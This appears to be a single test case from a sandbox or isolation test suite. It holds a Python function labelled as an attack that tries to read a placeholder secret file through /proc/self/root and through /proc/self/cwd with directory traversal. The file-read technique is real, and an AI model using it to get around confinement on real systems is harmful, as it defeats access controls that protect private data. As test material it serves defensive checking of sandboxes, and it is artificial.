# attack: reads a file through /proc/self/root and through /proc/self/cwd
# class: files
# success: secret
# control: unconfined
def f(x, note):
    try:
        return open("/proc/self/root@secret@").read()
    except OSError:
        return open("/proc/self/cwd/../../../../../../..@secret@").read()
